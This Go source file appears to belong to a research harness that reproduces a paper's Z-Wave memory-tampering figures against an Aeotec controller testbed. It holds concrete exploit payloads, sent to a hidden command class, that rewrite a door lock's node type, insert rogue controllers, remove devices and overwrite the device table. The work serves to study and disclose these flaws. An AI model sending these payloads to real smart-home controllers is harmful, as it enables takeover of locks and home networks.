package harness

import (
	"fmt"
	"strings"

	"zcover/internal/serialapi"
	"zcover/internal/testbed"
	"zcover/internal/zcover/dongle"
	"zcover/internal/zcover/scan"
)

// MemoryAttackView is one of the paper's Figs 8–11: the PC Controller
// program's node list before and after a memory-tampering attack.
type MemoryAttackView struct {
	// Figure is the paper figure number (8–11).
	Figure int
	// Title describes the attack.
	Title string
	// Payload is the injected application payload.
	Payload []byte
	// Before and After are the rendered node-table views.
	Before, After string
}

// Figs8to11 reproduces the four memory-tampering proof-of-concept views
// of the paper (Figs 8–11) on the Aeotec controller: each attack is one
// unencrypted packet to the hidden CMDCL 0x01, and the effect is read
// back through the Serial API exactly as the PC Controller program's UI
// shows it.
func Figs8to11() ([]MemoryAttackView, error) {
	attacks := []struct {
		figure  int
		title   string
		payload []byte
	}{
		{8, "Memory tampering: door lock rewritten as routing slave (bug 01)",
			[]byte{0x01, 0x0D, testbed.LockID, 0x00, 0x00, 0x00, 0x04, 0x10, 0x01}},
		{9, "Rogue controllers #10 and #200 inserted (bug 02)",
			nil}, // two packets; handled below
		{10, "Valid devices #2 and #3 removed (bug 03)",
			nil}, // two packets; handled below
		{11, "Device table overwritten with fake devices (bug 04)",
			[]byte{0x01, 0x0D, 0xFF}},
	}

	var out []MemoryAttackView
	for _, a := range attacks {
		tb, err := testbed.New("D4", 31)
		if err != nil {
			return nil, err
		}
		d := dongle.New(tb.Medium, tb.Region)
		pc := serialapi.NewPCController(tb.Controller)

		before, err := pc.RenderTable()
		if err != nil {
			return nil, err
		}

		var payloads [][]byte
		switch a.figure {
		case 9:
			payloads = [][]byte{
				{0x01, 0x0D, 10, 0x80, 0x00, 0x00, 0x01, 0x02, 0x01},
				{0x01, 0x0D, 200, 0x80, 0x00, 0x00, 0x01, 0x02, 0x01},
			}
		case 10:
			payloads = [][]byte{
				{0x01, 0x0D, testbed.LockID},
				{0x01, 0x0D, testbed.SwitchID},
			}
		default:
			payloads = [][]byte{a.payload}
		}
		for _, p := range payloads {
			if _, err := d.SendAndObserve(tb.Home(), scan.AttackerNodeID, testbed.ControllerID,
				p, dongle.DefaultResponseWindow); err != nil {
				return nil, err
			}
		}
		tb.Publish()

		after, err := pc.RenderTable()
		if err != nil {
			return nil, err
		}
		out = append(out, MemoryAttackView{
			Figure: a.figure, Title: a.title,
			Payload: payloads[len(payloads)-1],
			Before:  before, After: after,
		})
	}
	return out, nil
}

// String renders one view pair for terminal output.
func (v MemoryAttackView) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "Figure %d: %s\n", v.Figure, v.Title)
	fmt.Fprintf(&b, "injected payload: % X\n\n", v.Payload)
	b.WriteString("-- controller memory before --\n")
	b.WriteString(v.Before)
	b.WriteString("\n-- controller memory after --\n")
	b.WriteString(v.After)
	return b.String()
}
